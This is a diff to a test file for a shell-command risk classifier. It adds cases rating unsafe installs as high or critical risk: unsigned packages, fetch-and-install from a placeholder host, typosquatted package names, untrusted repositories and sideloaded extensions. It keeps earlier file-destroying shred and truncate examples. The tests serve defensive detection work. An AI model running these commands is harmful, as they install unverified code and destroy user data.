@@ -134,6 +134,22 @@ def level(command: str) -> RiskLevel:
         ("shred -u ~/Desktop/*.txt", CRITICAL),
         ("shred -u *.log", HIGH),
         ("find ~/Music -type f -exec truncate -s 0 {} +", CRITICAL),
+        # installs: unchecked signatures, as root, look-alike names, new sources
+        ("dnf install -y --nogpgcheck ./tool.rpm", CRITICAL),
+        ("apt-get install --allow-unauthenticated foo", CRITICAL),
+        ("snap install --dangerous ./x.snap", CRITICAL),
+        ("sudo pip install https://x.example/t.whl", CRITICAL),
+        ("pip install https://x.example/t.whl", HIGH),
+        ("curl -O https://x.example/a.rpm && rpm -i a.rpm", CRITICAL),
+        ("pip install numpyy", HIGH),
+        ("npm install expresss", HIGH),
+        ("pip3 install --user reqests", HIGH),
+        ("dnf config-manager --add-repo https://x.example/r.repo", HIGH),
+        (
+            "echo 'deb [trusted=yes] http://x.example/ main' > /etc/apt/sources.list.d/x.list",
+            CRITICAL,
+        ),
+        ("code --install-extension ./thing.vsix", HIGH),
     ],
 )
 def test_dangerous_commands_reach_their_level(command: str, expected: RiskLevel) -> None:
@@ -189,6 +205,12 @@ def test_dangerous_commands_reach_their_level(command: str, expected: RiskLevel)
         ("truncate -s 0 app.log", MODERATE),
         ("sed -i '/^#/d' app.conf", MODERATE),
         ("echo '' > ~/.ssh/known_hosts", MODERATE),
+        ("pip install requests", MODERATE),
+        ("pip install numpy pandas", MODERATE),
+        ("npm install react-dom", MODERATE),
+        ("sudo apt install nginx", MODERATE),
+        ("code --install-extension ms-python.python", MODERATE),
+        ("pip install pytest-cov", MODERATE),
     ],
 )
 def test_near_misses_stay_low(command: str, ceiling: RiskLevel) -> None:
